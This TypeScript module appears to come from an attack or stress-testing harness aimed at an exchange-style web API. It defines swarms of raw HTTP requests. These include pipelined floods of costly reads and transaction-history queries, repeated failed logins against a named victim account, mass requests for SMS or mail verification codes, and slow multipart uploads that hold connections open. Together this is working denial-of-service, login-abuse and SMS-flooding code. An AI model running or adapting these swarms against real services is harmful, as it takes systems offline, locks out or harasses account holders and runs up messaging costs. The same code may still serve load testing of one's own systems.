/** Whole calls, as fast as they are answered: dear reads, logins, codes, and files that hardly come. */
import type { Attack, Target } from '../attack.ts';
import { dearReads, head, post } from '../requests.ts';
import { type Acts, type Peer, swarmOf } from '../swarm.ts';

const answerBegins = 'HTTP/1.1 ';

/** Asks again with each answer that begins; so many are under way. */
function asking(peer: Peer, depth: number, next: (turn: number) => string): Acts {
  let turn = peer.index;
  const ask = () => peer.send(next(turn++));
  for (let count = 0; count < depth; count++) ask();
  return {
    heard(chunk) {
      const answers = chunk.toString('latin1').split(answerBegins).length - 1;
      peer.answered(answers);
      for (let count = 0; count < answers; count++) ask();
    },
  };
}

const reads = [
  ...dearReads,
  ...dearReads.map((request) => request.replace('\r\n\r\n', '\r\naccept-encoding: br\r\n\r\n')),
  head('GET', '/api/currency/quotation_new', { 'accept-encoding': 'gzip' }),
  head('GET', '/api/currency/sparklines'),
  head('GET', '/docs'),
  head('GET', '/api/currency/new_timeshar?symbol=BTC/USDT&from=0&to=99999999999&period=4hour'),
];

function listsOf({ tokens }: Target): string[] {
  return tokens.map((authorization) =>
    post('/api/transaction_history', { page: '1', limit: '100', after: '9007199254740991' }, { authorization }),
  );
}

const stranger = (turn: number) => `nobody${turn}-${process.pid}@d${turn % 50}.example`;

/** So much of a file comes that it does not count as standing still. */
const fileBytes = 4_000_000;
const partHead =
  '--hostile\r\ncontent-disposition: form-data; name="file"; filename="a.jpg"\r\ncontent-type: image/jpeg\r\n\r\n';
const some = Buffer.alloc(8 * 1024, 0xff);

export const calls: readonly Attack[] = [
  swarmOf('dear reads', (target) => {
    const requests = [...reads, ...listsOf(target)];
    return {
      count: 64,
      begin: (peer) => asking(peer, 4, (turn) => requests[turn % requests.length] ?? ''),
    };
  }),
  swarmOf('logins', ({ victim }) => ({
    count: 200,
    begin: (peer) =>
      asking(peer, 1, (turn) => {
        const user_string = turn % 4 === 0 ? victim : stranger(turn);
        return post('/api/user/login', { user_string, password: `wrong${turn}` });
      }),
  })),
  swarmOf('codes', {
    count: 200,
    begin: (peer) =>
      asking(peer, 1, (turn) => post('/api/sms_mail', { user_string: stranger(turn), country_code: 'KR' })),
  }),
  swarmOf('stalled uploads', ({ tokens }) => ({
    count: 200,
    begin(peer) {
      const authorization = tokens[peer.index % tokens.length] ?? '';
      const type = 'multipart/form-data; boundary=hostile';
      const headers = { authorization, 'content-type': type, 'content-length': String(fileBytes) };
      peer.send(head('POST', '/api/upload', headers) + partHead);
      return {
        heard() {
          peer.answered();
          peer.leave();
        },
        tick: () => peer.socket.write(some),
      };
    },
  })),
];
